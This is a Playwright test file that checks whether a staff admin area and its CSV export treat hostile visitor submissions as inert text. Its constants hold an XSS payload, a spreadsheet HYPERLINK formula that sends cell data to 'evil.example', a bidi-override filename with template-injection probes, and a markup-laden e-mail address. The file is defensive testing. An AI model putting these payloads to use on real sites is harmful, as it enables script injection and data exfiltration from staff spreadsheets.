import { readFile } from 'node:fs/promises';
import type { Page } from 'playwright/test';
import { endpoints } from '#shared/endpoints/all.ts';
import type { Endpoint } from '#shared/endpoints/endpoint.ts';
import { expect, someone, test, type StaffArea } from '#tests/support/staff-area.ts';

// What visitors may send, however hostile, staff see to the letter in every place that shows it, and it does nothing.

const MARKUP = '<img src=x onerror="globalThis.owned=1"><script>globalThis.owned=1</script>';
const FORMULA = '=HYPERLINK("https://evil.example?"&A1,"Click")';
/** Turns the reading direction around, and looks like the end of a cell, a row and a quotation. */
const DISGUISED = '\u202Egpj.exe\u202C",\'; {{7*7}} ${7*7} @SUM(1)';
const HOSTILE = [MARKUP, FORMULA, DISGUISED];

/** Names, and sentences of plain text, leave out the marks that would turn what stands after a visitor's words. */
const withoutTurns = (text: string): string => text.replace(/[\u202A-\u202E]/g, '');

interface Form {
  tab: string;
  send: Endpoint;
  /** Every text a visitor chooses freely, as hostile as the form takes it. */
  texts: (hostile: string) => Record<string, string>;
  rest?: Record<string, string>;
  /** How the address begins; feedback takes what the rule for e-mail does not. */
  lead?: string;
}

const FORMS: Record<string, Form> = {
  contact: {
    tab: 'Contact Form',
    send: endpoints.contactSubmit,
    texts: (hostile) => ({ name: hostile, message: `${hostile}\n${hostile}` }),
  },
  demo: {
    tab: 'Demo Requests',
    send: endpoints.demoSubmit,
    texts: (hostile) => ({ firstName: hostile, lastName: hostile, company: hostile.replaceAll('@', '') }),
    rest: {
      ...{ country: 'NP', helpNeeded: 'Other', industry: 'Technology', phone: '+9779812345678' },
      ...{ employees: '1-10', role: 'Owner' },
    },
  },
  feedback: {
    tab: 'Feedback',
    send: endpoints.feedbackSubmit,
    texts: (hostile) => ({ name: hostile, message: hostile }),
    rest: { rating: 'Poor' },
    lead: `"'`,
  },
  connect: {
    tab: "Let's Connect",
    send: endpoints.letsConnectSubmit,
    texts: (hostile) => ({ message: hostile }),
    rest: { name: 'Letters only', phone: '9812345678' },
  },
  website: {
    tab: 'Website Request Form',
    send: endpoints.websitePlanSubmit,
    texts: (hostile) => ({ name: hostile, company: hostile, message: hostile }),
    rest: { plan: 'Elite' },
  },
  users: {
    tab: 'Registered Users',
    send: endpoints.registrationSubmit,
    texts: (hostile) => ({ name: hostile, address: hostile }),
    rest: { phone: '9812345678', password: 'monsoon-lantern', confirmPassword: 'monsoon-lantern' },
  },
};

// Wide enough for every column of every list.
test.use({ viewport: { width: 1600, height: 900 } });

/** An address that the form takes, and that no page may take for markup. */
const addressOf = (lead: string, mark: string) =>
  `${lead}onfocus=globalThis.owned=1&#60svg/${mark}@example.com`;

/** The texts as staff are to see them. */
const shownTexts = (texts: Record<string, string>): string[] =>
  Object.entries(texts).map(([field, text]) => (/name/i.test(field) ? withoutTurns(text) : text));

const wasOwned = (page: Page) => page.evaluate(() => 'owned' in globalThis);

async function exported(staff: StaffArea): Promise<string> {
  const [file] = await Promise.all([staff.page.waitForEvent('download'), staff.button('Export CSV').click()]);
  return readFile(await file.path(), 'utf8');
}

/** A text as a cell that spreadsheets show and do not calculate. */
const asCell = (text: string) => `"${text.startsWith('=') ? "'" : ''}${text.replaceAll('"', '""')}"`;

for (const [at, [place, { tab, send, texts, rest = {}, lead = "a'" }]] of Object.entries(FORMS).entries()) {
  // The lists share what shows their rows: the first gets every text, each other one of them.
  const sent = at === 0 ? HOSTILE : HOSTILE.slice(at % HOSTILE.length).slice(0, 1);

  test(`${tab}: what visitors send is text in list, row, question, popup, export and print`, async ({
    staff,
    page,
  }) => {
    const marks = sent.map(() => someone('x').replaceAll(' ', ''));
    for (const [index, hostile] of sent.entries())
      await staff.send(send, { ...texts(hostile), ...rest, email: addressOf(lead, marks[index] ?? '') });
    await staff.open(place);

    for (const [index, hostile] of sent.entries()) {
      const email = addressOf(lead, marks[index] ?? '');
      const typed = shownTexts(texts(hostile));
      await page.getByRole('searchbox').fill(email);
      const row = staff.row(email);
      for (const text of typed) await expect(row).toContainText(text);

      const csv = await exported(staff);
      expect(csv).toContain(email.includes('"') ? asCell(email) : email);
      for (const text of typed) expect(csv).toContain(asCell(text));

      await row.locator('.admin-open').click();
      const details = page.getByRole('region', { name: /^Details: / });
      await expect(details.getByRole('link', { name: email, exact: true })).toHaveAttribute(
        'href',
        new RegExp(`^mailto:${encodeURIComponent(lead)}onfocus%3D`),
      );
      for (const text of typed) await expect(details.getByText(text, { exact: true }).last()).toBeVisible();
      await page.emulateMedia({ media: 'print' });
      for (const text of typed) await expect(details.getByText(text, { exact: true }).last()).toBeVisible();
      await expect(page.getByRole('tablist')).toBeHidden();
      await page.emulateMedia({ media: null });

      await page.keyboard.press('d');
      const question = page.getByRole('dialog', { name: 'Are you sure?' });
      await expect(question).toContainText(rest['name'] ?? (typed[0] ?? '').slice(0, 38));
      await staff.answer('Yes, delete');
      await page.keyboard.press('Escape');
      await expect(row).toBeHidden();
    }

    await page.getByRole('searchbox').fill('');
    await staff.button(`${place === 'website' ? 'Deleted' : 'Hidden'} (${sent.length})`).click();
    const popup = page.getByRole('dialog', { name: /\(\d\)$/ });
    for (const mark of marks) await expect(popup.getByText(addressOf(lead, mark))).toBeVisible();
    expect(await wasOwned(page)).toBe(false);
  });
}
